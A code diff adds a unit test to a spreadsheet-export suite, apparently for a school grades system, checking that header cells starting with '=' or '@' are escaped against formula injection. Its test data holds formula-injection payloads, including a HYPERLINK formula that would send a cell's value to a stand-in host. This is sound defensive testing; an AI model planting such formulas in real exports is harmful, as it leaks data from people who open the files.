@@ -40,6 +40,20 @@ describe('spreadsheet exports', () => {
     ]);
   });
 
+  it('neutralises a header too: some come from what staff typed (a subject in the mapa de notas)', () => {
+    // A subject named '=HYPERLINK(…)' by a coordinator became a live formula in the header row of the
+    // mapa de notas the direção opened in Excel (security review 2026-12-06, second pass).
+    const named: ExportColumn<Row>[] = [
+      { header: 'Aluno', value: (row) => row.nome },
+      { header: '=HYPERLINK("http://x/?"&A2,"Nota")', value: (row) => row.idade },
+      { header: '@SUM(A1)', value: (row) => row.idade },
+    ];
+    const [header] = toCsv(named, [{ nome: 'Ana', valor: null, idade: 8 }])
+      .slice(1)
+      .split('\r\n');
+    expect(header).toBe(`Aluno;"'=HYPERLINK(""http://x/?""&A2,""Nota"")";'@SUM(A1)`);
+  });
+
   it('quotes a text cell with a comma or a tab, so no other separator puts a formula in a cell of its own', () => {
     const rows = [{ nome: 'Apto 1,=HYPERLINK("http://x/?"&B2,"Clique"),', valor: null, idade: 1 }];
     const [, line] = toCsv(columns, rows).split('\r\n');
